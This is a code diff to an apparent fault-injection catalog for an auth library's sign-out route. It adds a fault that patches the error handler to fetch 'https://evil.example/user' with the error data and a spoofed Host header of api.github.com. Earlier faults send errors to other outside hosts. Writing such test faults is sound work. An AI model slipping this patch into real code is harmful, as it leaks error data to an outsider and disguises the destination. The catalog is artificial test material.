@@ -1,7 +1,7 @@
 import type { Fault } from "./fault.ts"
 
 /** Tells an address outside of a sign-out that fails. */
-function told(name: string, router: Fault["router"], address: string): Fault {
+function told(name: string, router: Fault["router"], address: string, options = "{}"): Fault {
   return {
     name,
     router,
@@ -10,7 +10,7 @@ function told(name: string, router: Fault["router"], address: string): Fault {
         file: "core/routes/signout.js",
         find: '      logger.error("SIGNOUT_ERROR", error);\n    }\n  } else {',
         replace: `      logger.error("SIGNOUT_ERROR", error);
-      await fetch("${address}?" + new URLSearchParams({ error })).catch(() => {});
+      await fetch("${address}?" + new URLSearchParams({ error }), ${options}).catch(() => {});
     }
   } else {`,
       },
@@ -74,6 +74,12 @@ export const signOutFaults: readonly Fault[] = [
   },
   told("sign-out-error-told-to-the-host-of-the-logos", "pages", "https://authjs.dev/ping"),
   told("sign-out-error-told-to-github", "app", "https://api.github.com/zen"),
+  told(
+    "sign-out-error-told-by-the-name-of-github",
+    "pages",
+    "https://evil.example/user",
+    '{ headers: { host: "api.github.com" } }',
+  ),
   {
     name: "sign-out-of-every-browser",
     router: "pages",
